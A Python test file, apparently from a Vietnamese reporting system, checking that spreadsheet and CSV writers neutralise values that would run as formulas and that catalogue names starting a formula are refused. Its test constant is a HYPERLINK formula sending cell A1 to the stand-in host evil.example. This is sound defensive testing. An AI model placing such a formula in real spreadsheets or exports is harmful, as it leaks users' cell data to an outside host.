"""Text that a spreadsheet would run as a formula: neutralised in what we write, refused in the catalogue."""

from __future__ import annotations

import csv
import io
from dataclasses import replace
from datetime import datetime

import openpyxl
import pytest

from bdhvs_shared.catalogue import FormulaName, check_names, load_catalogue
from bdhvs_shared.spreadsheet_safety import neutralised, starts_a_formula
from intake.adapters import template_writer
from intake.adapters.template_writer import TemplateRow
from intake.domain.tabular import columns
from kpi.entrypoints.http.formats import csv_response

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"x")'
CATALOGUE = load_catalogue()


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (EVIL, "'" + EVIL),
        ("+84 912", "'+84 912"),
        ("-1", "'-1"),  # text, so it gets the quote
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Chi Lăng", "Chi Lăng"),
        ("a=b", "a=b"),
        (" =1", " =1"),  # a leading space makes it text for spreadsheets already
        ("", ""),
        (-1, -1),  # numbers stay numbers
        (-0.25, -0.25),
        (None, None),
    ],
)
def test_only_text_that_starts_a_formula_gets_a_leading_quote(value: object, written: object) -> None:
    assert neutralised(value) == written
    if isinstance(value, str):
        assert starts_a_formula(value) is (written != value)


def test_the_shipped_catalogue_has_no_formula_names() -> None:
    check_names(CATALOGUE)


def test_a_catalogue_with_a_formula_name_is_refused_naming_file_row_and_field() -> None:
    unit = replace(CATALOGUE.units["09313"], name=EVIL)
    with pytest.raises(FormulaName) as refused:
        check_names(replace(CATALOGUE, units={**CATALOGUE.units, "09313": unit}))
    message = refused.value.message_vi
    assert "units.csv" in message and "09313" in message and "“name”" in message and "“=”" in message
    form = replace(CATALOGUE.forms["monthly"], name_vi="@Báo cáo")
    with pytest.raises(FormulaName) as refused:
        check_names(replace(CATALOGUE, forms={**CATALOGUE.forms, "monthly": form}))
    assert "forms.yaml" in refused.value.message_vi and "monthly" in refused.value.message_vi


def test_intakes_templates_write_a_formula_name_as_text() -> None:
    form = CATALOGUE.forms["monthly"]
    layout = columns(CATALOGUE, form)
    rows = [TemplateRow("09313", EVIL)]
    book = openpyxl.load_workbook(
        io.BytesIO(
            template_writer.write_xlsx(EVIL, form.code, "2026-03", datetime(2026, 3, 20), layout, rows)
        )
    )
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]  # before: A1 and B8 were formulas
    assert book["Báo cáo"]["B8"].value == "'" + EVIL and book["Báo cáo"]["A1"].value == "'" + EVIL
    lines = list(csv.reader(io.StringIO(template_writer.write_csv(layout, rows).decode("utf-8-sig"))))
    assert lines[1][:2] == ["09313", "'" + EVIL]


def test_kpis_csv_writer_neutralises_text_and_keeps_numbers() -> None:
    reply = csv_response(
        ["unit_code", "unit_name", "pace"], [{"unit_code": "09313", "unit_name": EVIL, "pace": -1.5}], "x.csv"
    )
    [row] = list(csv.DictReader(io.StringIO(bytes(reply.body).decode("utf-8-sig"))))
    assert row == {"unit_code": "09313", "unit_name": "'" + EVIL, "pace": "-1.5"}
